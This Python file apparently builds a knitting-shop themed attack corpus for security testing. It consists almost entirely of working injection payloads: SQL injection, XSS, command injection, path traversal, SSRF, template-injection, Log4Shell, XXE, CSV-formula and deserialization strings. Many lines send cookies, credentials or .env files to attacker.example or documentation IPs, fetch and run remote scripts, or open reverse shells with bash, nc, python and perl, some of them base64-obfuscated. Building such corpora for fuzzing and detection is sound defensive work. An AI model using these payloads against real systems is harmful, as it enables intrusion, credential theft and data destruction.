#!/usr/bin/env python3
"""Attack corpus for the knitting (yarn shop + knitting circle) theme. Stdlib only."""
import json
import os
import random

SEED = 26202
HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = [
    "merino dk' OR '1'='1",
    "sock yarn' OR 1=1-- -",
    "alpaca' UNION SELECT username, password_hash, NULL FROM customers-- ",
    "Rios' UNION ALL SELECT NULL,NULL,table_name,NULL FROM information_schema.tables#",
    "chunky') OR ('a'='a",
    "MR-866' AND 1=CONVERT(int,(SELECT TOP 1 email FROM customers))--",
    "4.5mm circular' AND extractvalue(1,concat(0x7e,(select @@version)))-- x",
    "cable needle' AND updatexml(null,concat(0x3a,(SELECT password FROM admin_users LIMIT 1)),null)-- -",
    "kid silk haze' AND SLEEP(6)-- -",
    "brioche'; WAITFOR DELAY '0:0:7'--",
    "lace shawl' AND (SELECT 4412 FROM (SELECT(SLEEP(5)))kNit)-- qq",
    "Drops Air' || pg_sleep(8) || '",
    "fingering'); SELECT pg_sleep(10);--",
    "12'; DROP TABLE yarn_stock;--",
    "Archangel'; UPDATE customers SET loyalty_tier='Gold' WHERE email='me@attacker.example';--",
    "order #20934'; INSERT INTO coupons(code,pct) VALUES('FREEYARN',100);--",
    "1 OR 1=1",
    "20934 UNION SELECT card_last4, card_token FROM payments",
    "10412 AND 1=2 UNION SELECT 1,group_concat(email,0x3a,password_hash),3 FROM customers",
    "-1 UNION SELECT 1,2,load_file('/etc/passwd'),4-- ",
    "sock' AnD 1=1 UnIoN SeLeCt null, concat(user(),0x40,database())-- ",
    "merino'/**/UNION/**/SELECT/**/email,pass/**/FROM/**/users#",
    "wool'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
    "yarn'%0AUNION%0ASELECT%0Aname,sku%0AFROM%0Ayarn_stock--",
    "cotton%27%20OR%20%271%27%3D%271",
    "linen%2527%2520OR%25201%253D1--",
    "Rust' OR 'x' LIKE 'x",
    "Oat' OR 2>1-- ",
    "sky blue' OR '1' IN ('1')-- ",
    "Heather' OR ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>96-- ",
    "bin A3' AND (SELECT COUNT(*) FROM staff) > 0 AND '1'='1",
    "Storm' AND SUBSTR((SELECT api_key FROM settings LIMIT 1),1,1)='a'--",
    "plum' AND IF(MID(version(),1,1)='8',BENCHMARK(4000000,SHA1('wool')),0)-- ",
    "CASE WHEN (1=1) THEN 1 ELSE 1/0 END",
    "name; SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "price desc, (SELECT 1 FROM (SELECT SLEEP(4))x)",
    "name ASC,IF((SELECT 1 FROM admin_users LIMIT 1)=1,name,price)",
    "(select case when (substr(user,1,1)='S') then 1 else 1/0 end from dual)",
    "qty, extractvalue(0x0a,concat(0x0a,(select table_name from information_schema.tables limit 0,1)))",
    "GIFT-7781' OR code LIKE '%",
    "CIRCLE10' UNION SELECT code, 100 FROM coupons WHERE '1'='1",
    "BK-2024-0931'||(SELECT '' FROM dual WHERE 1=1 AND DBMS_PIPE.RECEIVE_MESSAGE('x',6)=1)||'",
    "Jo Brennan' AND 1=(SELECT 1 FROM sqlite_master WHERE type='table' AND name LIKE 'cust%')--",
    "Siobhán' UNION SELECT sql, NULL FROM sqlite_master--",
    "O'Brien'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--",
    "knitter'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--",
    "yarn' AND 1=utl_inaddr.get_host_address((SELECT user FROM dual)||'.attacker.example')--",
    "'; COPY (SELECT email, password_hash FROM customers) TO PROGRAM 'curl -d @- http://203.0.113.9/c';--",
    "shawl' INTO OUTFILE '/var/www/html/k.php' LINES TERMINATED BY 0x3c3f70687020706173737468727528245f4745545b27275d293b3f3e-- ",
    "admin'--",
    "ana@yarnshop.example'/*",
    "' OR ''='",
    "x' OR username IS NOT NULL OR 'a'='b",
    "\" OR \"\"=\"",
    "Tom O\\' OR 1=1-- ",
    "%bf%27 OR 1=1 -- ",
    "Mira' || '1'='1",
    "') UNION SELECT id, email, NULL, NULL FROM customers WHERE ('1'='1",
    "'))) OR 1=1-- -",
    "1' ORDER BY 7-- -",
    "1' GROUP BY 1,2,3,4,5 HAVING 1=1-- ",
    "socks\" UNION SELECT 1, @@datadir, 3 -- -",
    "wool` WHERE 1=0 UNION SELECT password FROM staff -- ",
    "Oat'+(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')+'",
    "10' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "mohair' AND json_extract((SELECT group_concat(token) FROM sessions),'$')--",
    "Sample ' UNION SELECT NULL,NULL,NULL,version()::text-- -",
    "sale'; SET @s=CONCAT('SEL','ECT * FROM customers'); PREPARE q FROM @s; EXECUTE q;#",
    "Kelp' AND 0x61646d696e=(SELECT username FROM users LIMIT 1)-- ",
    "yarn' AND CHAR(65)||CHAR(66)='AB' UNION SELECT passwd FROM staff--",
    "ｍｅｒｉｎｏ＇ ＯＲ １＝１－－",
    "wool'%09or%091=1%23",
]
SQLI_POOL = [
    "' OR 'k'='k' -- ",
    "' UNION SELECT email, password_hash FROM customers-- -",
    "' AND SLEEP(5)#",
    "'; DELETE FROM orders WHERE '1'='1",
]
SQLI_PREFIX = ["Rosewood cardigan", "order 11230", "Tide Pool kit", "sock club", "aran 100% wool"]
SQLI_URLENC = [
    "merino' OR 1=1-- ",
    "' UNION SELECT sku, cost_price FROM yarn_stock--",
    "10412; DROP TABLE bookings",
    "Oat' AND SLEEP(9)-- -",
]

XSS = [
    "Love this colourway! <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Finished my hat <img src=x onerror=alert(document.domain)>",
    "<svg onload=location='//attacker.example/?c='+document.cookie>",
    "Check my WIP: <a href=\"javascript:alert(1)\">photos</a>",
    "<iframe src=\"javascript:alert(`circle`)\"></iframe>",
    "Great class!<body onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "Rosewood <details open ontoggle=alert(1)>sleeve notes</details>",
    "<input autofocus onfocus=fetch('//203.0.113.40/k?'+localStorage.token)>",
    "\"><script src=https://attacker.example/k.js></script>",
    "'><svg/onload=alert(1)>",
    "Siobhán\" onmouseover=\"alert(document.cookie)\" x=\"",
    "Ana' autofocus onfocus='alert(1)",
    "</textarea><script>alert('knit')</script>",
    "</title><img src=1 onerror=prompt(1)>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x oNeRrOr=alert&#40;1&#41;>",
    "Circle notes &lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"jav&#x61;script:alert(1)\">free pattern</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">PDF</a>",
    "<a href=\"java\tscript:alert(1)\">sock chart</a>",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click for chart</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(document.cookie)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://attacker.example/login\"><input name=password placeholder=\"Re-enter password to see pattern\"><button>Go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">",
    "<base href=\"https://attacker.example/\">",
    "<link rel=import href=\"https://attacker.example/x.html\">",
    "<style>@import 'https://attacker.example/steal.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">sale</div>",
    "<div style=\"width:expression(alert(1))\">",
    "<marquee onstart=alert(1)>yarn sale!</marquee>",
    "<select autofocus onfocus=alert(1)><option>DK</option></select>",
    "<textarea autofocus onfocus=alert(document.domain)>notes</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<img src=\"x\" onerror=\"this.src='https://attacker.example/p?c='+document.cookie\">",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg\nonload=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    "<body/onpageshow=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<p onpointerenter=alert(1)>hover over the swatch</p>",
    "<span onanimationstart=alert(1) style=animation-name:rotation>spin</span>",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(\"hi\")",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "[click me](javascript:alert(1))",
    "![swatch](x\" onerror=\"alert(1))",
    "[pattern](javascript&#58;alert(1))",
    "<a href=\"#\" onclick=\"fetch('/api/account',{method:'POST',body:'email=evil@attacker.example'})\">Sock club signup</a>",
    "<script>new Image().src='//198.51.100.7/k?'+encodeURIComponent(document.cookie)</script>",
    "<script>document.write('<img src=//attacker.example/'+document.cookie+'>')</script>",
    "<script>eval(location.hash.slice(1))</script>",
    "<script>setTimeout('al'+'ert(1)',0)</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>top[/al/.source+/ert/.source](1)</script>",
    "<img src=x onerror=\"eval(String.fromCharCode(97,108,101,114,116,40,49,41))\">",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]
XSS_POOL = [
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
    "<script>alert('yarn')</script>",
    "<details open ontoggle=fetch('//198.51.100.33/'+document.cookie)>",
    "<a href=javascript:alert(document.domain)>pattern PDF</a>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
]
XSS_PREFIX = ["Thanks for the class!", "My finished shawl:", "Gift message: Happy birthday Nana", "Bio: sock addict.", "Who's coming Thursday?"]

CMDI = [
    "stock_fr.csv; cat /etc/passwd",
    "rosewood.pdf && id",
    "logo-sheep.png | nc 203.0.113.12 4444 -e /bin/sh",
    "patterns/TidePool.pdf; curl http://attacker.example/s.sh | sh",
    "export.csv`id`",
    "label.png$(whoami)",
    "yarn.jpg; wget -qO- http://198.51.100.23/k | bash",
    "sock chart || ping -c 3 attacker.example",
    "backup.zip; rm -rf /var/www/uploads/*",
    "2024-05.csv\nid",
    "stock.csv%0Acat%20/etc/shadow",
    "photo.jpg;${IFS}cat${IFS}/etc/passwd",
    "chart.png;cat$IFS/etc/hosts",
    "x;{cat,/etc/passwd}",
    "a.pdf; bash -i >& /dev/tcp/203.0.113.5/9001 0>&1",
    "b.pdf && python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.14\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "c.pdf; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(443,inet_aton(\"203.0.113.77\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    "cover.jpg; php -r '$s=fsockopen(\"attacker.example\",8080);exec(\"sh <&3 >&3 2>&3\");'",
    "swatch.png | base64 /etc/passwd | curl -d @- https://attacker.example/up",
    "Rios.png; nslookup $(whoami).attacker.example",
    "shawl.pdf; dig +short `hostname`.x.attacker.example",
    "sleeve.jpg && curl -F f=@/app/.env http://attacker.example/u",
    "logo.png;echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjkvNDQzIDA+JjE= | base64 -d | sh",
    "img.png; echo 'bmMgMjAzLjAuMTEzLjIgOTAwMCAtZSBzaA==' |base64 --decode|bash",
    "hat.jpg;c''a''t /e't'c/pa's'swd",
    "hat2.jpg;c\\at /et\\c/pas\\swd",
    "kit.zip;/???/??t /???/p??s??",
    "kit2.zip; /b[i]n/c[a]t /e[t]c/p[a]sswd",
    "yarn.png;$'\\x63\\x61\\x74' /etc/passwd",
    "yarn2.png; a=ca;b=t;$a$b /etc/passwd",
    "notes.txt; sleep 10",
    "notes2.txt | sleep 8 #",
    "notes3.txt`sleep 6`",
    "notes4.txt$(sleep${IFS}7)",
    "cardigan & ping -n 11 127.0.0.1 &",
    "report.csv & type C:\\Windows\\win.ini",
    "report2.csv | dir C:\\Users",
    "label.pdf & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\"",
    "label2.pdf && powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAHgAKQA=",
    "stock.xlsx & certutil -urlcache -split -f http://198.51.100.50/r.exe %TEMP%\\r.exe & %TEMP%\\r.exe",
    "stock2.xlsx | cmd /c whoami",
    "fleece.jpg; echo '* * * * * root curl attacker.example/c|sh' >> /etc/crontab",
    "fleece2.jpg; echo ssh-ed25519 AAAAFAKEKEYFORTESTSONLY attacker@attacker.example >> ~/.ssh/authorized_keys",
    "size chart.pdf\" ; id ; echo \"",
    "Tide Pool'; uname -a; echo '",
    "-o /var/www/html/shell.php http://attacker.example/shell.txt",
    "--output=/tmp/x; id",
    "-exec sh -c 'id' \\;",
    "Rosewood.jpg -write /var/www/html/s.php",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/k.sh",
    "tidepool.pdf; chmod +x /tmp/k && /tmp/k",
    "yarn|tee /var/www/html/x.php <<< '<?php system($_GET[c]);?>'",
    "photo.heic; find / -name '*.env' -exec cat {} +",
    "pattern.pdf; ls -la /home",
    "mitten.jpg;ifconfig",
    "mitten2.jpg | env",
    "scarf.png; cat /proc/self/environ",
    "scarf2.png; curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "blanket.png; nc -lvp 31337 -e /bin/bash",
    "blanket2.png; mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.88 5555 >/tmp/f",
    "socks.pdf; awk 'BEGIN{system(\"id\")}'",
    "socks2.pdf; xterm -display 198.51.100.3:1",
    "Archangel%3Bid",
    "Archangel%26%26whoami",
    "Archangel%7Cuname%20-a",
    "DK yarn %0a wget attacker.example/m -O /tmp/m",
    "wool.gif;\r\nid",
    "cotton.gif\\u0000; id",
]
CMDI_POOL = ["; id", " && cat /etc/passwd", " | curl -s attacker.example/x | sh", "$(wget -q -O- 203.0.113.61/s|sh)", "`uname -a`"]
CMDI_PREFIX = ["rosewood_progress_03.jpg", "stock_import.csv", "TidePool_v2.pdf", "label-oat.png", "sock_chart.svg"]

TRAVERSAL = [
    "../../../../etc/passwd",
    "../../../etc/shadow",
    "patterns/../../../../../etc/hosts",
    "TidePool_v2.pdf/../../../../proc/self/environ",
    "..\\..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "....//....//....//etc/passwd",
    "....\\\\....\\\\....\\\\boot.ini",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2f.env",
    "%252e%252e%252f%252e%252e%252fetc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cwindows/win.ini",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%u002e%u002e%u002f%u002e%u002e%u002fetc/passwd",
    "..%u2215..%u2215..%u2215etc/passwd",
    "．．／．．／．．／etc/passwd",
    "../../../../etc/passwd%00.pdf",
    "../../../../etc/passwd\\u0000.jpg",
    "../../../../var/log/nginx/access.log",
    "../../../app/config/database.yml",
    "../../.git/config",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/shop/.bash_history",
    "/etc/passwd",
    "/proc/self/cmdline",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:/inetpub/logs/LogFiles/W3SVC1/u_ex240501.log",
    "\\\\attacker.example\\share\\pattern.pdf",
    "uploads/patterns/../../../../../../usr/local/etc/php/php.ini",
    "./uploads/patterns/..;/..;/..;/etc/passwd",
    "/exports/stock/..%5c..%5c..%5cwindows%5cwin.ini",
    "..%5c..%5c..%5c..%5cboot.ini",
    "....%2f....%2f....%2fetc%2fshadow",
    "..././..././..././etc/passwd",
    ".../.../.../etc/passwd",
    "/var/www/yarnshop/../../../etc/passwd",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=/etc/passwd",
    "zip://uploads/kit.zip%23../../shell.php",
    "phar://uploads/swatch.jpg/x",
    "/static/../../../../../etc/issue",
    "img/../../../../../../proc/version",
    "..//..//..//etc//passwd",
    "..\\/..\\/..\\/etc\\/passwd",
]
TRAVERSAL_URLENC = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "patterns/../../../app/.env",
]

SSRF = [
    "http://127.0.0.1:8080/admin",
    "http://localhost/server-status",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[::1]:6379/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/admin",
    "http://0.0.0.0:9200/_cat/indices",
    "http://0/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://127.1/admin/users",
    "http://0x7f.0x0.0x0.0x1:8000/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/user-data",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://127.0.0.1.attacker.example/",
    "http://attacker.example@127.0.0.1/internal/stock",
    "http://127.0.0.1#@cdn.yarnshop.example/logo.png",
    "http://cdn.yarnshop.example.attacker.example/logo.png",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.5:8500/v1/kv/?recurse",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.10:2375/containers/json",
    "http://internal-billing.svc.cluster.local/api/refunds",
    "http://redis:6379/",
    "http://elasticsearch:9200/customers/_search?q=*",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ASAVE%0D%0A",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cshop%40yarnshop.example%3E%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "ftp://10.1.2.3/backups/customers.sql",
    "file:///app/config/secrets.yml",
    "file:///C:/Windows/win.ini",
    "ldap://127.0.0.1:389/dc=yarnshop,dc=local",
    "tftp://203.0.113.30/pwn",
    "jar:http://attacker.example/kit.jar!/",
    "netdoc:///etc/passwd",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://127。0。0。1/admin",
    "http://localhost:22/",
    "http://127.0.0.1:5984/_all_dbs",
    "https://attacker.example/logo.png?x=http://169.254.169.254/",
    "http://[fd00:ec2::254]/latest/meta-data/",
]
SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/actuator/env", "http://localhost:9000/minio/admin", "http://10.20.30.40/"]
SSRF_PREFIX = ["Logo URL: ", "Import feed from ", "Pattern PDF link: ", "Dyer product image: "]

CODE = [
    ("ssti-jinja2", "Hi {{first_name}}, {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2", "Order #{{order_id}} {{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2", "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("ssti-jinja2", "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja2", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja2", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("ssti-jinja2", "{{ request|attr('application')|attr('__globals__') }}"),
    ("ssti-jinja2", "Spring sale {{7*'7'}} {{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|filter('system') }}"),
    ("ssti-twig", "{{ ['id',0]|sort('passthru') }}"),
    ("ssti-twig", "Dear {{ name }} {{ app.request.server.all|join(',') }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/hostname\")}"),
    ("ssti-freemarker", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
    ("ssti-velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-velocity", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"touch /tmp/k\")"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-thymeleaf", "[[${T(java.lang.System).getenv()}]]"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "Thanks <%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl http://attacker.example/r | bash') %>"),
    ("ssti-smarty", "{system('cat /etc/passwd')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("ssti-mako", "<% import os %>${os.popen('whoami').read()}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('curl attacker.example/p|sh')}()}"),
    ("ssti-ejs", "<%- global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')\")() }}"),
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('wget -O /tmp/k http://198.51.100.9/k')}"),
    ("el-spring", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}"),
    ("el-spring", "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"),
    ("el-jakarta", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-jakarta", "${pageContext.request.getSession().setAttribute('admin', true)}"),
    ("ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('whoami').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-K',#a))}"),
    ("ognl", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('touch /tmp/yarn')}"),
    ("eval-js", "sock'); require('child_process').exec('curl attacker.example/n|sh'); ('"),
    ("eval-js", "1;process.mainModule.require('child_process').execSync('id').toString()"),
    ("eval-js", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "qty*1; global.process.kill(process.pid)"),
    ("eval-php", "Archangel\";phpinfo();//"),
    ("eval-php", "${@eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))}"),
    ("eval-php", "<?= `cat /etc/passwd` ?>"),
    ("eval-php", "assert('file_put_contents(\"s.php\",\"<?php eval(\\$_POST[x]);\")')"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "48 + __import__('subprocess').check_output(['cat','/etc/passwd']).__len__()"),
    ("eval-python", "exec(\"import socket,subprocess;s=socket.create_connection(('203.0.113.44',9001));subprocess.call(['sh'],stdin=s,stdout=s)\")"),
    ("eval-python", "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['popen']('id').read()"),
    ("eval-ruby", "96.times{}; `curl -s attacker.example/r | sh`"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/knit}"),
    ("log4shell", "Rosewood cardigan ${jndi:rmi://203.0.113.8:1099/obj}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://198.51.100.19/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/x}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/y}"),
    ("log4shell", "${j${k8s:k5:-ND}i:ldaps://log.attacker.example/z}"),
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"discountPct\": 100}}}"),
    ("proto-pollution", "__proto__[role]=staff"),
    ("proto-pollution", "constructor[prototype][shell]=/proc/self/exe"),
    ("proto-pollution", "{\"theme\":\"heather\",\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');s\"}}"),
    ("proto-pollution", "settings.__proto__.NODE_OPTIONS=--require /proc/self/environ"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for pattern\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/s)'!A0"),
    ("csv-formula", "-2+3+cmd|'/c notepad'!'A1'"),
    ("csv-formula", "@SUM(1+9)*cmd|' /C curl 198.51.100.2'!A0"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",CONCATENATE(A1:E20)),\"//a\")"),
    ("csv-formula", "=WEBSERVICE(\"https://attacker.example/\"&A1)"),
    ("csv-formula", "\t=1+1;=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE yarn [<!ENTITY xx SYSTEM \"file:///etc/passwd\">]><yarn><name>&xx;</name></yarn>"),
    ("xxe", "<!DOCTYPE stock [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]><stock/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><order><note>&m;</note></order>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"wool\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE svg [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><text>&f;</text></svg>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("deserialization", "O:8:\"YarnKit\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "a:1:{i:0;O:21:\"Monolog\\Handler\\Syslog\":1:{s:6:\"socket\";O:10:\"BufferHand\":0:{}}}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="),
    ("deserialization", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Yarn\",\"autoCommit\":true}"),
